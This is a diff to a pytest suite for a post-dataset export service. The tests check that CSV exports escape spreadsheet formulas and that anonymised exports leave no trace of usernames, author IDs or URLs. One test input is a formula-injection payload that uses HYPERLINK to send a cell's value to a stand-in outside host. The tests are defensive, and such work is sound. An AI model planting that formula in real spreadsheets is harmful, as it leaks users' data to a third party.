@@ -31,8 +31,12 @@ def stored(here: Collaborators) -> Collaborators:
         ],
     )
     here.documents.upsert("posts", [post(name, number) for name in labels for number in range(3)])
-    here.documents.upsert("posts", [post("ann", 7, body=HOSTILE), post("ann", 8, body="=1+1", title="@x")])
+    here.documents.upsert("posts", [post("ann", 7, body=HOSTILE), _titled("=1+1", "@x")])
     return here
+
+
+def _titled(body: str, title: str) -> dict[str, Any]:
+    return post("ann", 8, id="t3_ann8", kind="submission", body=body, title=title)
 
 
 def lines(client: TestClient, which: str, **query: Any) -> list[Any]:
@@ -74,6 +78,72 @@ def test_csv_holds_no_formula(curator: TestClient, stored: Collaborators) -> Non
     assert "\x00" not in text
     assert (rows[4]["body"], rows[4]["title"]) == ("'=1+1", "'@x")
     assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
+
+
+def test_csv_holds_no_formula_in_sheets_that_part_cells_otherwise(
+    curator: TestClient, stored: Collaborators
+) -> None:
+    bodies = ['hello;=HYPERLINK("http://x.example/?"&A1)', "a\t @b;+1", "a\n-2;=3", "well ;-) done"]
+    stored.documents.upsert("posts", [post("bob", 10 + at, body=body) for at, body in enumerate(bodies)])
+    text = curator.get(f"{DATASETS}/no_risk", params={"format": "csv"}).text.removeprefix("\ufeff")
+
+    for separator in (";", "\t", ","):
+        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=separator) for cell in row]
+        assert not [each for each in cells if each.lstrip(' "').startswith(("=", "+", "@", "-2"))]
+    assert "well ;-) done" in text
+    assert all(line.startswith('"t1_') for line in text.split("\r\n")[1:-1])
+
+
+@pytest.fixture
+def raw(stored: Collaborators) -> Collaborators:
+    """What a producer may send: more fields than there are, and fewer."""
+    more = {"author_fullname": "t2_secret", "url": "https://x.example/ann", "author_flair_text": "I am ann"}
+    own = {"subreddit": "u_Ann", "body": "I, ann, am u/ANN and not /user/bob_2", **more}
+    lacking = {"id": "t1_lack", "author": "ann", "body": "words", "created_utc": 5}
+    odd = {"id": "t1_odd", "author": "ann", "body": ["x"], "title": 5, "created_utc": 10**18}
+    stored.documents.upsert("posts", [post("ann", 20, **own), lacking, odd])
+    return stored
+
+
+@pytest.mark.parametrize("form", ["jsonl", "csv", "erisk"])
+def test_no_field_and_no_mention_leads_back(curator: TestClient, raw: Collaborators, form: str) -> None:
+    content = curator.get(f"{DATASETS}/risk", params={"format": form}).content
+    if form == "erisk":
+        with ZipFile(io.BytesIO(content)) as archive:
+            content = b"".join(archive.read(name) for name in archive.namelist())
+
+    for trace in (b"ann", b"bob", b"t2_secret", b"x.example", b"flair"):
+        assert trace not in content.lower()
+
+
+def test_a_profile_keeps_being_one(curator: TestClient, raw: Collaborators) -> None:
+    (found,) = (each for each in lines(curator, "risk") if each["subreddit"].startswith("u_"))
+
+    assert found["subreddit"] == f"u_{found['author']}"
+    assert found["body"].startswith(f"I, {found['author']}, am u/{found['author']} and not /user/user_")
+
+
+@pytest.mark.parametrize("form", ["jsonl", "csv", "erisk"])
+@pytest.mark.parametrize("names", ["pseudonyms", "real"])
+def test_a_download_ends_whole_whatever_a_row_lacks(
+    curator: TestClient, raw: Collaborators, form: str, names: str, tmp_path: Path
+) -> None:
+    content = curator.get(f"{DATASETS}/risk", params={"format": form, "names": names}).content
+
+    if form == "erisk":
+        with ZipFile(io.BytesIO(content)) as archive:
+            archive.extractall(tmp_path)
+        (posts,) = open_collection(tmp_path).posts.values()
+        assert len(posts) == 7
+    else:
+        assert content.count(b"\n") == 7 + (form == "csv")
+
+
+def test_what_is_no_text_is_counted(raw: Collaborators, tmp_path: Path) -> None:
+    selection = Selection(raw.documents, Which.RISK, raw.pseudonyms)
+    export(selection, tmp_path / "labelled")
+
+    assert selection.left_out == {"bad created_utc": 1}
 
 
 @pytest.mark.parametrize("names", ["pseudonyms", "real"])
